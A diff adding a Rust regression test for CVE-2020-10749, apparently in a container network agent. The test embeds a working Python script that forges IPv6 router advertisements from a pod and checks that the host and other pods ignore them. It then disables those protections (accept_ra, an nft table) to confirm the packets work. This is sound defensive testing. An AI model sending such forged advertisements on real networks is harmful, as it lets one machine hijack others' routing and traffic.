@@ -223,6 +223,68 @@ fn pods_reach_each_other_the_node_and_other_hosts_and_only_those_see_a_masquerad
     assert_eq!((host.rules(), host.records().len()), (String::new(), 0));
 }
 
+/// Sends router advertisements out of `eth0`, as any root with `NET_RAW` can: a default route, a prefix for addresses, a route.
+const ADVERTISE: &str = r#"
+import socket, struct, sys, time
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+s.bind(("eth0", 0))
+mac = s.getsockname()[4]
+six = lambda text: socket.inet_pton(socket.AF_INET6, text)
+source, all_nodes = six("fe80::bad"), six("ff02::1")
+body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + bytes([1, 1]) + mac
+body += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0) + six("2001:db8:bad::")
+body += struct.pack("!BBBBI", 24, 2, 48, 0, 1800) + six("2001:db8:ff::")[:8]
+words = source + all_nodes + struct.pack("!II", len(body), 58) + body
+total = sum(struct.unpack("!%dH" % (len(words) // 2), words))
+while total >> 16: total = (total & 0xFFFF) + (total >> 16)
+body = body[:2] + struct.pack("!H", ~total & 0xFFFF) + body[4:]
+packet = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + all_nodes + body
+for number in range(int(sys.argv[1])):
+    s.send(bytes.fromhex("333300000001") + mac + b"\x86\xdd" + packet)
+    time.sleep(0.1)
+"#;
+
+/// What a pod's advertisements have made of this network namespace.
+fn advertised() -> String {
+    let all = sh("ip -6 address; ip -6 route show table all");
+    all.lines()
+        .filter(|line| ["2001:db8", "::bad", "proto ra"].iter().any(|word| line.contains(word)))
+        .collect::<Vec<_>>()
+        .join("; ")
+}
+
+/// CVE-2020-10749 by doing it: advertisements that are really sent.
+#[test]
+fn router_advertisements_of_a_pod_reach_nobody() {
+    for subnets in [&["10.87.0.0/24"][..], &["10.87.0.0/24", "fd00:87::/64"]] {
+        let host = Host::new(subnets);
+        let (pod, other) = (host.attach("router", &[]).unwrap(), host.attach("other", &[]).unwrap());
+        let script = host.directory.0.join("advertise.py");
+        std::fs::write(&script, ADVERTISE).unwrap();
+        let send = |times: u32| pod.run(|| sh(&format!("python3 {} {times}", script.display())));
+        send(10);
+        assert_eq!(
+            (host.run(advertised), other.run(advertised)),
+            (String::new(), String::new()),
+            "{subnets:?}"
+        );
+        // The same packets do it where nothing is closed: or this would show nothing.
+        host.run(|| {
+            for (name, value) in [("disable_ipv6", "0"), ("accept_ra", "2")] {
+                std::fs::write(format!("/proc/sys/net/ipv6/conf/{DEFAULT_BRIDGE}/{name}"), value).unwrap();
+            }
+            sh("nft delete table ip6 agent0 2>/dev/null || true")
+        });
+        let began = Instant::now();
+        while !host.run(advertised).contains("2001:db8:bad:") {
+            assert!(began.elapsed() < PATIENCE, "the advertisements are not understood at all");
+            send(5);
+        }
+        host.detach(&pod);
+        host.detach(&other);
+    }
+}
+
 /// CVE-2020-10749: a pod that advertises itself as a router of IPv6, where pods have none.
 #[test]
 fn a_pod_without_ipv6_is_no_router_for_node_or_pods() {
